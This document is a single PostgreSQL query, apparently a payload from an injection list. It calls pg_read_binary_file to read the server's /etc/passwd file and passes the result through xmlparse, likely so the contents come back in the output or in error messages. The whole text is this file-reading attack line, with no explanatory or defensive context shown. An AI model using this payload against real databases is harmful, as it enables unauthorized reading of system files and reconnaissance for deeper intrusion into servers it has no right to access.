SELECT xmlparse(document convert_from(pg_read_binary_file('/etc/passwd'), 'UTF8'));
